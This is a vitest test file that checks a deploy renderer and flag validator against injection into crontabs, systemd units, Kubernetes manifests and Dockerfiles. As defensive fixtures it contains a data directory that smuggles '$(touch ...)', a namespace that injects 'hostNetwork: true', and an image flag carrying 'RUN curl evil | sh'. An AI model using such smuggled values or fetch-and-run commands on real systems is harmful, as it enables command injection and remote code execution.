import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkDeployFlags } from '../../src/commands/schedule-install.js';
import { loadConfigOrThrow } from '../../src/config/load.js';
import { renderDeployFiles } from '../../src/deploy/render.js';
import { spawnAsync } from '../helpers/cli.js';

/**
 * Config values and flags written into crontabs, systemd units, manifests and Dockerfiles are data,
 * never code: quoted for each target, or refused.
 */
let dir: string;
let files: Record<string, string>;
const canary = () => path.join(dir, 'PWNED');

beforeAll(async () => {
  // A folder with a space and a %, and a data directory that tries to run a command.
  dir = path.join(await mkdtemp(path.join(tmpdir(), 'snap-inject-')), 'my snaps 100%');
  await mkdir(dir, { recursive: true });
  const config = path.join(dir, 'snap.config.yaml');
  await writeFile(config, `version: 1\ndataDir: 'data$(touch ${canary()})'\nenvironments:\n  - name: dev\n    context: c\nprojects:\n  - name: p\n    services:\n      - name: a\n        repository: acme/a\n`);
  const { config: loaded } = await loadConfigOrThrow(config, { env: {} });
  const rendered = renderDeployFiles(loaded, ['cron', 'systemd'], { schedule: { cron: '*/15 * * * *', onCalendar: '*-*-* *:00/15:00', describe: 'every 15m', scheduleArgs: [] }, outputDir: path.join(dir, 'deploy'), image: 'snap:0.1.0', namespace: 'snap', storage: '1Gi', inCluster: [], env: {} });
  files = Object.fromEntries(rendered.map((f) => [f.path, f.content]));
  for (const f of rendered) {
    await mkdir(path.dirname(path.join(dir, 'deploy', f.path)), { recursive: true });
    await writeFile(path.join(dir, 'deploy', f.path), f.content);
  }
});
afterAll(async () => rm(path.dirname(dir), { recursive: true, force: true }));

describe('values written into schedules', () => {
  it('a crontab line with a hostile data directory and a path with a space and % runs no injected command', async () => {
    const line = files['cron/snap.crontab'].split('\n').find((l) => l.startsWith('*/15'))!;
    // cron turns each unescaped % into a line break; a crontab with none left is what runs.
    expect(line.replace(/\\%/g, '')).not.toContain('%');
    const command = line.split(' ').slice(5).join(' ').replace(/\\%/g, '%');
    // Only the first part (mkdir) is run: it creates the data directory by its literal name.
    const mkdirPart = command.split(' && ')[0];
    const result = await spawnAsync('/bin/sh', ['-c', mkdirPart], {});
    expect(result.code).toBe(0);
    expect(existsSync(canary())).toBe(false);
    expect(existsSync(path.join(dir, `data$(touch ${canary()})`))).toBe(true);
  });

  it('systemd units with such paths pass systemd-analyze verify', async () => {
    const service = path.join(dir, 'deploy', 'systemd', 'snap.service');
    const verify = await spawnAsync('systemd-analyze', ['verify', service, path.join(dir, 'deploy', 'systemd', 'snap.timer')], {});
    expect(verify.stderr.replace(/.*(is not executable|Failed to|No such file).*\n?/g, '')).toBe('');
    const unit = await readFile(service, 'utf8');
    expect(unit).toContain('100%%');
    // `$` is expanded on command lines only (systemd.service(5)): doubled there, literal in paths.
    const line = (key: string) => unit.split('\n').find((l) => l.startsWith(`${key}=`))!;
    expect(line('ReadWritePaths')).toContain('data$(touch');
    expect(line('ReadWritePaths')).not.toContain('$$');
    expect(line('WorkingDirectory')).not.toContain('$$');
  });

  it('flags are checked against Kubernetes and image reference rules', () => {
    for (const [flags, message] of [
      [{ namespace: 'Bad_NS!' }, /--namespace "Bad_NS!" is not a Kubernetes namespace name/],
      [{ namespace: 'snap\n  hostNetwork: true' }, /is not a Kubernetes namespace name/],
      [{ storage: 'lots' }, /--storage "lots" is not a Kubernetes quantity/],
      [{ image: '' }, /--image "" is not an image reference/],
      [{ image: 'node:20\nRUN curl evil | sh' }, /is not an image reference/],
    ] as const) {
      expect(() => checkDeployFlags(flags), JSON.stringify(flags)).toThrow(message);
    }
    for (const ok of [{ namespace: 'snap' }, { storage: '500Mi' }, { image: 'ghcr.io/acme/snap:0.2.0' }, { image: 'registry.acme.internal:5000/tools/snap@sha256:' + 'a'.repeat(64) }, { image: 'snap:0.1.0' }]) {
      expect(() => checkDeployFlags(ok)).not.toThrow();
    }
  });
});
